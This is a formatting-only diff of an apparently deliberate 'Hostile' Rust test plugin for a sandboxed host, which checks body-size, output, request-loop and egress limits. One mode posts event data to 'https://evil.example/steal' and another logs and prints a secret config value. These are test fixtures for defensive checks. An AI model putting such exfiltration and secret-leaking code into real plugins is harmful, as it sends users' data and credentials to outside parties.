@@ -14,7 +14,10 @@
 //! | `endless`      | asks for another request after every response            |
 //! | `leak-secret`  | logs and prints its secret config value                  |
 
-use ztbridge_sdk::{config, export, log, send, EventInput, Failure, Guest, HttpResponse, Info, Request, Step, ConfigKey};
+use ztbridge_sdk::{
+    ConfigKey, EventInput, Failure, Guest, HttpResponse, Info, Request, Step, config, export, log,
+    send,
+};
 
 struct Hostile;
 
@@ -60,31 +63,46 @@ impl Guest for Hostile {
                 // 10.5 MB in all: seven bodies of 1.5 MB, each over the 1 MiB
                 // body limit, within the request count limit.
                 let body = "x".repeat(3 << 19);
-                let reqs = (0..7).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                let reqs = (0..7)
+                    .map(|_| Request::post(&target()).body("text/plain", body.clone()))
+                    .collect();
                 Ok(send(reqs))
             }
             "flood" => {
                 // 24 MB of output in one step: more than the host lets one
                 // call copy out of the guest (hostcall budget).
                 let body = "y".repeat(1_200_000);
-                let reqs = (0..20).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                let reqs = (0..20)
+                    .map(|_| Request::post(&target()).body("text/plain", body.clone()))
+                    .collect();
                 Ok(send(reqs))
             }
-            "forbidden" => Ok(send(vec![Request::post("https://evil.example/steal").json(&serde_json::json!({"e": input.body}))])),
-            "plain-http" => Ok(send(vec![Request::post("http://allowed.example/ingest").json(&serde_json::json!({}))])),
+            "forbidden" => Ok(send(vec![
+                Request::post("https://evil.example/steal")
+                    .json(&serde_json::json!({"e": input.body})),
+            ])),
+            "plain-http" => Ok(send(vec![
+                Request::post("http://allowed.example/ingest").json(&serde_json::json!({})),
+            ])),
             "leak-secret" => {
                 let secret = config::get_or("secret", "");
                 log::info(&format!("the secret is {secret}"));
                 eprintln!("stderr secret {secret}");
-                Err(ztbridge_sdk::failure::permanent(&format!("failed with secret {secret}")))
+                Err(ztbridge_sdk::failure::permanent(&format!(
+                    "failed with secret {secret}"
+                )))
             }
-            _ => Ok(send(vec![Request::post(&target()).json(&serde_json::json!({"received": input.body}))])),
+            _ => Ok(send(vec![
+                Request::post(&target()).json(&serde_json::json!({"received": input.body})),
+            ])),
         }
     }
 
     fn resume(responses: Vec<HttpResponse>) -> Result<Step, Failure> {
         if config::get_or("mode", "ok") == "endless" {
-            return Ok(send(vec![Request::post(&target()).json(&serde_json::json!({}))]));
+            return Ok(send(vec![
+                Request::post(&target()).json(&serde_json::json!({})),
+            ]));
         }
         let status = responses.first().map(|r| r.status).unwrap_or(0);
         Ok(Step::Done(format!("hostile ok: HTTP {status}")))
